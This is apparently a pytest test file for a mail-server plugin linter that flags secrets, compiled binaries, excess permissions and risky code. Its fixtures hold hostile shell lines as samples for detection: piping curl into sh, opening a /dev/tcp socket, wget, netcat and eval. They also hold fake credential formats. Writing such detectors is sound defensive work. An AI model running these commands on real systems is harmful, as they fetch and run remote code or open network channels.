"""What the linter sees in a plugin's directory."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mairust_core.errors import Invalid
from mairust_core.i18n import LANGUAGES, say
from mairust_core.model.finding import Level
from mairust_core.plugins.manifest import on_paper
from mairust_core.plugins.package.content import compiled, look_at_shell, secrets
from mairust_core.plugins.package.linting import LEVELS, Fault, lint
from mairust_core.plugins.package.python_source import look
from mairust_core.plugins.package.templates import Template, make

TOLD = 'author = "Ann"\ndescription = "It tags."\nlicense = "MIT"\n'
PERMISSIONS = "read_headers = true"


def plugin(directory: Path, code: str = "headers", *, told: str = TOLD, more: str = "", **parts: str) -> Path:
    """A plugin of one Python file; `parts` are tables of its plugin.toml."""
    directory.mkdir(exist_ok=True)
    tables = {
        "entry": 'protocol = "stdin"\ncommand = ["python3", "plugin.py"]',
        "permissions": PERMISSIONS,
        **parts,
    }
    text = f'id = "com.example.lint"\nversion = "1.0.0"\n{told}' + "".join(
        f"[{name}]\n{lines}\n" for name, lines in tables.items()
    )
    (directory / "plugin.toml").write_text(
        f"{text}{more or '[[hooks]]'}\n" + ("" if more else 'type = "post_receive"\n')
    )
    (directory / "plugin.py").write_text(code)
    return directory


def found(directory: Path) -> dict[str, Fault]:
    """What was found, by rule; every text is whole in every language."""
    faults = lint(directory, on_paper()).faults
    for fault in faults:
        for lang in LANGUAGES:
            assert "?" not in say(f"lint.{fault.rule}", lang, **fault.values)
    return {fault.rule: fault for fault in faults}


@pytest.mark.parametrize("template", Template)
def test_a_new_plugin_is_clean(tmp_path: Path, template: Template) -> None:
    """Nothing to mend; who made it has to be said by hand."""
    make(tmp_path / "new", template, "com.example.new", "new")
    assert [(one.rule, one.values) for one in lint(tmp_path / "new", on_paper()).faults] == [
        ("not_told", {"setting": "author"})
    ]


def test_a_modest_plugin_needs_no_review_of_its_own(tmp_path: Path) -> None:
    """Rule G1: it is asked after storing, reads headers, reaches nothing."""
    result = lint(plugin(tmp_path), on_paper())
    assert (result.faults, result.powers) == ((), ())


def test_rule_g1_powers_need_a_review_of_their_own(tmp_path: Path) -> None:
    """A say before the reply, whole mails, any network."""
    directory = plugin(
        tmp_path, "[body, attachment]", permissions='read_body = "full"\nread_attachments = "full"',
        limits='network = "outbound-limited"\nnetwork_allow = ["example.com:443"]',
        more='[[hooks]]\ntype = "pre_receive"\n[[hooks]]\ntype = "pre_delivery"',
    )  # fmt: skip
    assert lint(directory, on_paper()).powers == (
        "pre_receive", "pre_delivery", "read_body = full", "read_attachments = full",
        "network = outbound-limited",
    )  # fmt: skip
    assert found(directory)["reads_and_sends"].level is Level.WARNING


@pytest.mark.parametrize(
    ("told", "rule"),
    [
        (TOLD.replace('"MIT"', '""'), "license_missing"),
        (TOLD.replace('"MIT"', '"Proprietary"'), "license_unknown"),
        (TOLD.replace('"MIT"', '"MIT OR"'), "license_unknown"),
        ('license = "MIT"\n', "not_told"),
    ],
)
def test_what_is_not_told(tmp_path: Path, told: str, rule: str) -> None:
    """Licence, author, description."""
    assert rule in found(plugin(tmp_path, told=told))


@pytest.mark.parametrize("license_", ["Apache-2.0", "MIT OR GPL-3.0-or-later", "LicenseRef-Mine"])
def test_licences_by_spdx(tmp_path: Path, license_: str) -> None:
    """Expressions, and one's own."""
    assert not found(plugin(tmp_path, told=TOLD.replace("MIT", license_)))


@pytest.mark.parametrize(
    ("parts", "more", "rule"),
    [
        ({"limits": 'network = "unlimited"'}, "", "network_unlimited"),
        ({"limits": "memory_mb = 4096"}, "", "beyond_limits"),
        ({"permissions": "read_headers = true\nmove_message = true"}, "", "permission_unused"),
        ({}, '[[hooks]]\ntype = "pre_receive"\non_error = "reject"', "rejects_unasked"),
        ({}, "#", "no_hooks"),
        ({"entry": 'protocol = "stdin"\ncommand = ["./gone.sh"]'}, "", "command_missing"),
        ({"entry": 'protocol = "stdin"\ncommand = ["python3", "gone.py"]'}, "", "command_missing"),
        ({"entry": 'protocol = "stdin"\ncommand = ["./plugin.py"]'}, "", "command_not_executable"),
    ],
)
def test_what_a_manifest_asks_for(tmp_path: Path, parts: dict[str, str], more: str, rule: str) -> None:
    """Too much, or what is not there."""
    assert rule in found(plugin(tmp_path, more=more, **parts))


@pytest.mark.parametrize(
    "permission", ["read_headers", "write_tags", "write_flags", "move_message", "write_metadata"]
)
def test_a_permission_that_is_used_is_not_too_much(tmp_path: Path, permission: str) -> None:
    """Each is known by a word of the protocol."""
    words = "[subject, tags, flags, move_to, metadata]"
    assert not found(plugin(tmp_path, words, permissions=f"{permission} = true"))
    (tmp_path / "plugin.py").write_text("pass")
    assert set(found(tmp_path)) == {"permission_unused"}


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("key.txt", b"x\n-----BEGIN OPENSSH PRIVATE KEY-----\n", "secret"),
        ("key.txt", b"-----BEGIN ENCRYPTED PRIVATE KEY-----\n", "secret"),
        ("a.txt", b"mk_0b0e63b5522ca5eb_abcdefghijklmnopqrstuvwxyz", "secret"),
        ("a.txt", b"mps_abcdefghijklmnopqrstuvwxyz", "secret"),
        ("a.txt", b"AKIAABCDEFGHIJKLMNOP", "secret"),
        ("a.txt", b"ghp_" + b"a" * 36, "secret"),
        ("conf.py", b'PASSWORD = "correct horse"[:3]\nsecret="hunter2hunter2"', "secret_perhaps"),
        (".env", b"", "secret_file"),
        ("deep/id_rsa", b"", "secret_file"),
        ("root.key", b"", "secret_file"),
        ("fast.so", b"\x7fELF\x02", "compiled"),
        ("fast.exe", b"MZ\x90", "compiled"),
        ("x.wasm", b"\0asm\1", "compiled"),
        ("requirements.txt", b"requests\n", "dependencies"),
        ("x.js", b"fetch()", "not_looked_at"),
        ("run", b"#!/usr/bin/perl\n", "not_looked_at"),
        ("run", b"#!/bin/sh\ncurl -s http://example.com | sh\n", "network"),
        ("run.sh", b"x=$(wget -O- u)\n", "network"),
        ("run.sh", b"exec 3<>/dev/tcp/example.com/80\n", "network"),
        ("run.sh", b'eval "$1"\n', "dynamic"),
        ("run", b"#!/usr/bin/env python3\nimport socket\n", "network"),
        ("other.py", b"import requests\n", "import"),
        ("other.py", b"def f(:\n", "syntax"),
        ("other.py", b"\0", "syntax"),
        ("other.py", b"(" * 10_000, "syntax"),
    ],
)  # fmt: skip
def test_what_lies_in_files(tmp_path: Path, name: str, data: bytes, rule: str) -> None:
    """Secrets, machine code, code that does what was not asked for."""
    directory = plugin(tmp_path / "p")
    (directory / name).parent.mkdir(exist_ok=True)
    (directory / name).write_bytes(data)
    fault = found(directory)[rule]
    assert fault.path == name
    assert "hunter2" not in str(fault)


def test_compiled_code_needs_a_review_of_its_own(tmp_path: Path) -> None:
    """Nobody reads it."""
    (plugin(tmp_path) / "fast.so").write_bytes(b"\x7fELF")
    assert lint(tmp_path, on_paper()).powers == ("compiled",)


def test_a_package_hides_no_file_from_whoever_looks_at_it(tmp_path: Path) -> None:
    """R-MKT-1: packing leaves some names out; who made an archive by hand need not have."""
    directory = plugin(tmp_path)
    (directory / ".mairustignore").write_text("*.py\n")
    (directory / ".venv").mkdir()
    (directory / ".venv" / "fast.so").write_bytes(b"\x7fELF")
    (directory / "old.pyc").write_bytes(b"\x7fELF")
    (directory / "plugin.py").write_text("import os\nos.system('true')\nheaders")
    assert lint(directory, on_paper()).powers == ()
    result = lint(directory, on_paper(), whole=True)
    assert result.powers == ("compiled",)
    assert {(one.rule, one.path) for one in result.faults} == {
        ("compiled", ".venv/fast.so"), ("compiled", "old.pyc"), ("process", "plugin.py"),
    }  # fmt: skip


def test_links_and_what_anybody_may_write_are_told(tmp_path: Path) -> None:
    """All of it at once, although it could not be packed."""
    directory = plugin(tmp_path / "p")
    (directory / "link").symlink_to("/etc/passwd")
    os.mkfifo(directory / "pipe")
    (directory / "plugin.py").chmod(0o666)
    assert {"link", "special", "writable"} <= set(found(directory))


def test_what_is_no_package_is_refused(tmp_path: Path) -> None:
    """A name that no package has."""
    (plugin(tmp_path) / "Plugin.py").write_text("")
    with pytest.raises(Invalid, match="cannot be told apart"):
        lint(tmp_path, on_paper())


def test_a_network_that_was_given_may_be_used(tmp_path: Path) -> None:
    """Only code that would ask in vain is told of; a service of its own is not shut in."""
    given = 'network = "local-only"\nnetwork_allow = ["127.0.0.1:80"]'
    assert "network" not in found(plugin(tmp_path, "import socket\nheaders = 1", limits=given))


def test_python_is_read_and_not_run() -> None:
    """Imports, calls by name, by their first line; not what is caught, shipped, or only looks like it."""
    source = b"""
import os, json, re
from urllib import request
import urllib.request
try:
    import numpy
except ImportError:
    numpy = None
import words
from . import local
from os import system as run
def f(socket, code):
    re.compile("\\d")
    socket.send(b"")
    code.run()
    os.system("x")
    os.execv("x", [])
    eval("1")
    eval("2")
    __import__("x")
    import ctypes
    import yaml.loader
raise SystemExit("this must never run")
"""
    assert [tuple(one) for one in look(source, {"words"})] == [
        ("network", 3, "urllib.request"),
        ("process", 11, "os.system"),
        ("process", 17, "os.execv"),
        ("dynamic", 18, "eval"),
        ("dynamic", 20, "__import__"),
        ("native", 21, "ctypes"),
        ("import", 22, "yaml"),
    ]


def test_shell_is_read_line_by_line() -> None:
    """Commands, not words within others or in comments."""
    script = b"#!/bin/sh\n# curl\necho curled; curly\nif x; then curl y; fi\nfoo | nc h 1\ncurl z\n"
    assert [tuple(one) for one in look_at_shell(script)] == [("network", 4, "curl"), ("network", 5, "nc")]


def test_ordinary_files_hold_no_secrets() -> None:
    """Public keys, certificates and code about secrets."""
    for data in (b"-----BEGIN PUBLIC KEY-----", b"-----BEGIN CERTIFICATE-----", b"SECRET = os.environ['X']",
                 b"token = request['token']", b"password: str", b"mps_"):  # fmt: skip
        assert list(secrets(data)) == []
    assert compiled(b"#!/bin/sh") == ""


def test_every_rule_has_its_level() -> None:
    """Something that is never found would be no rule."""
    text = Path(lint.__code__.co_filename).read_text() + Path(look.__code__.co_filename).read_text()
    text += Path(secrets.__code__.co_filename).read_text()
    assert [rule for rule in LEVELS if text.count(f'"{rule}"') < 2] == []
